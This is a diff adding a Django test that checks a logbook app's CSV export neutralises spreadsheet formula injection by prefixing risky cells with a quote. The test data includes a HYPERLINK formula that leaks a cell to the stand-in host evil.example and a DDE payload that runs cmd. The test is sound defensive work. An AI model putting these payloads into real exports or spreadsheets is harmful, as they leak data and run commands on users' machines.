@@ -3,6 +3,7 @@
 The models come from apps.get_models(), so a model added later is either covered by
 a row maker below or fails here with a message saying what to add."""
 
+import csv
 import datetime as dt
 import io
 import json
@@ -161,3 +162,20 @@ def test_a_wrong_password_deletes_nothing(alice, owned_rows):
     assert api.delete("/api/v1/me/", {"password": "guess"}, format="json").status_code == 400
     for model, row in owned_rows[alice].items():
         assert model._default_manager.filter(pk=row.pk).exists()
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused(alice):
+    from tests.factories import EpisodeFactory
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    for text in hostile:
+        EpisodeFactory(user=alice, notes=text)
+    Medication.objects.create(user=alice, name="=cmd|' /C calc'!A0", drug_class="other")
+    response = token_client(alice).get("/api/v1/export/csv/")
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    episodes = list(csv.DictReader(io.StringIO(archive.read("logbook.episode.csv").decode())))
+    assert sorted(row["notes"] for row in episodes) == sorted("'" + text for text in hostile)
+    medications = list(csv.DictReader(io.StringIO(archive.read("accounts.medication.csv").decode())))
+    assert medications[0]["name"] == "'=cmd|' /C calc'!A0"
+    # Numbers stay numbers.
+    assert all(row["severity"].lstrip("-").isdigit() for row in episodes)
